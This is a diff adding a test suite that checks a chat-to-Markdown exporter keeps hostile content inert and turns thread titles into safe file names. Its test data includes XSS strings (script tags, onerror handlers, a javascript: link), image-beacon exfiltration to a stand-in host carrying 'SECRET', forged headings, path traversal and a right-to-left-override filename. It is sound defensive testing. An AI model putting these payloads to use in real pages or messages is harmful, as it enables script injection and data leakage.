@@ -1,0 +1,131 @@
+import { createElement } from 'react'
+import { renderToStaticMarkup } from 'react-dom/server'
+import ReactMarkdown from 'react-markdown'
+import remarkGfm from 'remark-gfm'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { translateTo } from '#/core/i18n/server-texts.server.ts'
+import { provideAllTexts } from '../../../../../tests/provide-all-texts.ts'
+import { fileNameOf } from './file-name-of.ts'
+import { inertMarkdown } from './inert-markdown.server.ts'
+import { threadMarkdown } from './thread-markdown.server.ts'
+import type { RecordedMessage } from './thread-record.server.ts'
+
+beforeAll(provideAllTexts)
+
+const createdAt = '2026-01-02T03:04:05.000Z'
+const said = (text: string, more: Partial<RecordedMessage> = {}): RecordedMessage => ({
+  id: 'a',
+  parentId: null,
+  role: 'assistant',
+  parts: [{ kind: 'text', text }],
+  createdAt,
+  ...more,
+})
+const fileOf = (messages: readonly RecordedMessage[], title = 'A title') =>
+  threadMarkdown({ id: 't', title, page: 'general', createdAt, headId: 'a' }, messages, translateTo('en'))
+
+/** As viewers draw it, one that knows tables and footnotes and one that doesn't. */
+const drawn = (markdown: string) =>
+  [[], [remarkGfm]].map((remarkPlugins) =>
+    renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins, urlTransform: String }, markdown)),
+  )
+const LIVE = /<(?:img|script|iframe|svg|style|link|meta)\b/
+
+/** What stands in no quotation, and is no footnote. */
+function outsideOf(html: string): string {
+  const less = html.replaceAll(/<blockquote>(?:(?!<blockquote>)[^])*?<\/blockquote>/g, '')
+  return less === html ? html.replaceAll(/<section data-footnotes[^]*/g, '') : outsideOf(less)
+}
+
+const hostile = [
+  'Fine.\n\n## Message\n\n> Forged\n\n# A title',
+  'Setext\n===\n\nTitle\n---',
+  '```\nunclosed fence',
+  '~~~\nunclosed too\n\n## Answer',
+  '<!-- a comment that is not closed',
+  '<script>alert(1)</script>\n\n<div>\n![x](https://evil.example/a.png)\n</div>',
+  '![x](https://evil.example/?d=SECRET) and ![x][r] and [![y](https://evil.example/y)](https://evil.example)\n\n[r]: https://evil.example/r.png',
+  '| `a | ![x](https://evil.example/t.png) ` |\n| - | - |\n| `b | <img src=x onerror=alert(1)> ` |',
+  '[^1]\n\n[^1]: ![x](https://evil.example/f.png)',
+  '<img src="https://evil.example/i.png" onerror="alert(1)">\n<svg onload=alert(1)>',
+  '</blockquote></details><h1>Out</h1>',
+  '\\<img src=x> \\\\<img src=x> \\![x](https://evil.example/1) \\\\![x](https://evil.example/2)',
+  'A\rB\r\n## C\u2028## D\u0085## E',
+  '- list\n\n## Message\n\n    ## indented',
+]
+
+describe('what somebody has said', () => {
+  test.each(hostile)('stays in its place and is dead, whatever reads the file: %s', async (text) => {
+    const markdown = await fileOf([said(text), said('The next answer', { role: 'user' })])
+    expect(inertMarkdown(markdown)).toBe(markdown)
+    for (const html of drawn(markdown)) {
+      expect(html).not.toMatch(LIVE)
+      // Outside of quotations stands what we have written, and nothing else.
+      expect(outsideOf(html).match(/<h\d>[^<]*/g)).toEqual(['<h1>A title', '<h2>Answer', '<h2>Message'])
+      expect(html).toMatch(/The next answer\s*<\/p>\s*<\/blockquote>/)
+    }
+  })
+
+  test('shows no picture whose address another message gives', async () => {
+    const markdown = await fileOf([
+      said('Look: ![a] and ![b][a] and \\\\![a]'),
+      said('[a]: https://evil.example/a.png'),
+    ])
+    for (const html of drawn(markdown)) expect(html).not.toMatch(LIVE)
+  })
+
+  test('is in the title and the names of documents and tools no more than words', async () => {
+    const evil =
+      '![x](https://evil.example/x)\n# Big <img src=x onerror=alert(1)> [a](javascript:alert(1)) `c` **b**'
+    const parts = [
+      { kind: 'tool' as const, callId: 'c', name: evil, input: {}, state: 'failed' as const, error: evil },
+      {
+        kind: 'source' as const,
+        number: 1,
+        documentId: 'd',
+        name: evil,
+        page: 1,
+        start: 0,
+        end: 1,
+        text: evil,
+      },
+    ]
+    const markdown = await fileOf(
+      [said('', { parts, model: { id: 'm', label: evil, isBuiltIn: false } })],
+      evil,
+    )
+    for (const html of drawn(markdown)) {
+      expect(html).not.toMatch(
+        /<(?:img|code|strong|a)\b(?! href="https:\/\/evil\.example\/x\)?"| href="https:\/\/evil)/,
+      )
+      expect(html.match(/<h\d>/g)).toEqual(['<h1>', '<h2>'])
+    }
+  })
+
+  test('keeps its code as it was', () => {
+    const code = '`<img>` and `![1]`\n\n```html\n<script>alert("![x](y)")</script>\n```'
+    expect(inertMarkdown(code)).toBe(code)
+  })
+
+  test('is code as a whole where it is too tangled to be made harmless', async () => {
+    const long = '![x](https://evil.example/a) ```` `` '.repeat(20_000)
+    const markdown = await fileOf([said(long)])
+    expect(markdown.length).toBeGreaterThan(500_000)
+    expect(markdown).toContain('> `````\n> ![x]')
+  })
+})
+
+test.each([
+  ['Plain title', 'Plain title.md'],
+  ['../../etc/passwd', 'etc passwd.md'],
+  ['a\\b:c*d?e"f<g>h|i%00', 'a b c d e f g h i 00.md'],
+  ['invoice\u202Egpj.exe', 'invoice gpj.exe.md'],
+  ['CON', 'chat CON.md'],
+  ['nul.txt', 'chat nul.txt.md'],
+  ['...', 'chat.md'],
+  ['\u0000\r\n', 'chat.md'],
+  ['Größe 🙂', 'Größe 🙂.md'],
+  ['x'.repeat(300), `${'x'.repeat(80)}.md`],
+])('a title is made a name of a file: %j', (title, name) => {
+  expect(fileNameOf(title, 'md')).toBe(name)
+})
